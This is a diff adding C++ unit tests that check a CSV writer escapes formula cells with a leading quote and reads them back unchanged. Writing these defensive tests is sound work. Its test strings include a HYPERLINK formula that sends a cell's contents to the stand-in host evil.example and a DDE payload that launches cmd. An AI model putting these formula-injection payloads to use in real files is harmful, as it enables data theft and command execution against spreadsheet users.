@@ -62,3 +62,51 @@ TEST_CASE("written CSV quotes only what needs it and reads back to the same fiel
   for (const auto& f : t->rows[0].fields) back.push_back(f.text);
   CHECK(back == fields);
 }
+
+TEST_CASE("formula cells are written with a quote before them, as OWASP advises") {
+  CHECK(neutralise_csv_cell("=HYPERLINK(\"https://evil.example/?\"&A1,\"Klicka\")") ==
+        "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Klicka\")");
+  CHECK(neutralise_csv_cell("@SUM(1+1)*cmd|' /C calc'!A0") == "'@SUM(1+1)*cmd|' /C calc'!A0");
+  CHECK(neutralise_csv_cell("+1") == "'+1");
+  CHECK(neutralise_csv_cell("-1+2") == "'-1+2");
+  CHECK(neutralise_csv_cell("\tx") == "'\tx");
+  CHECK(neutralise_csv_cell("\rx") == "'\rx");
+  CHECK(neutralise_csv_cell("'=x") == "''=x");  // so that reading gives back the quote
+  // A plain negative number is not a formula and stays a number.
+  CHECK(neutralise_csv_cell("-5") == "-5");
+  CHECK(neutralise_csv_cell("-3,5") == "-3,5");
+  CHECK(neutralise_csv_cell("-0.25") == "-0.25");
+  CHECK(neutralise_csv_cell("-5-5") == "'-5-5");
+  CHECK(neutralise_csv_cell("-") == "'-");
+  CHECK(neutralise_csv_cell("'quoted'") == "'quoted'");
+  CHECK(neutralise_csv_cell("a=b") == "a=b");
+  CHECK(neutralise_csv_cell("") == "");
+  CHECK(csv_line({"=1+1", "ok"}) == "'=1+1,ok\n");
+}
+
+TEST_CASE("neutralised formula cells read back to the original value") {
+  const std::vector<std::string> fields = {"=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
+                                           "@SUM(1+1)*cmd|' /C calc'!A0",
+                                           "+46 522 123 45",
+                                           "-5",
+                                           "-5+5",
+                                           "'=already quoted",
+                                           "''@two quotes",
+                                           "'plain quote",
+                                           "\tindented",
+                                           "-",
+                                           "plain"};
+  std::vector<std::string> columns;
+  for (std::size_t i = 0; i < fields.size(); ++i) columns.push_back("c" + std::to_string(i));
+  Diagnostics d;
+  auto t = parse_csv(csv_line(columns) + csv_line(fields), "f.csv", d);
+  REQUIRE(t);
+  std::vector<std::string> back;
+  for (const auto& f : t->rows[0].fields) back.push_back(f.text);
+  CHECK(back == fields);
+  // A quote a clerk typed before a formula character is read as the spreadsheet shows it.
+  auto typed = parse_csv("a,b\n'=1,'x\n", "f.csv", d);
+  REQUIRE(typed);
+  CHECK(typed->rows[0].fields[0].text == "=1");
+  CHECK(typed->rows[0].fields[1].text == "'x");
+}
